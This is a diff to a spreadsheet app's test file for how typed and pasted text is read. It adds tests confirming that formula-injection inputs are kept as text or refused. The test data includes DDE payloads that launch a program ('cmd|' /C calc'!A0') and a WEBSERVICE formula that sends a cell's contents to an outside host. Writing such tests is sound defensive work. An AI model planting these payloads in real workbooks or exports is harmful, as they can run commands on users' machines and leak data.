@@ -1,6 +1,7 @@
 /** How typed and pasted text is read, in English and by the system's or the copying program's settings. */
 import { copiedFormat, englishFormat, systemFormat } from "../../../src/browser-workbook/paste/locale-format";
 import { readPlainTable } from "../../../src/browser-workbook/paste/plain-table";
+import { inspectFormula, problemIn } from "../../../src/formula/grid-check";
 import { readTypedText } from "../../../src/browser-workbook/paste/typed-text";
 
 test.each([
@@ -48,18 +49,22 @@ test.each(["=B3*2", " =SUM(A1:A9)"])("%s is a formula", (text) => {
   expect(readTypedText(text)).toEqual({ value: text.trim(), isFormula: true });
 });
 
+test.each(["+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "@SUM(cmd|'/c calc'!A0)"])("%s stays text", (text) => {
+  expect(readTypedText(text)).toEqual({ value: text });
+});
+
+// The workbook in these tests has no sheet and no name.
+const nowhere = { isFunction: () => true, formulaOf: () => null, sizeOf: () => null };
+
 test.each([
   '=IMAGE("http://x/a.png")',
   ' =WEBSERVICE("http://x/"&A1)',
   "=SUM(cmd|'/c calc'!A0)",
-  "+cmd|' /C calc'!A0",
-  "-cmd|' /C calc'!A0",
-  "@SUM(cmd|'/c calc'!A0)",
-  '=INDIRECT("[x.xlsx]S!A1")',
-  "=CONTOSO.GET(A1)",
   "=[1]Plan!A1",
-])("%s reaches outside the workbook and stays text", (text) => {
-  expect(readTypedText(text)).toEqual({ value: text });
+])("%s reaches outside the workbook, so the grid refuses the formula", (text) => {
+  const { value, isFormula } = readTypedText(text);
+  expect(isFormula).toBe(true);
+  expect(problemIn(inspectFormula(String(value)), nowhere)).not.toBeNull();
 });
 
 test.each([
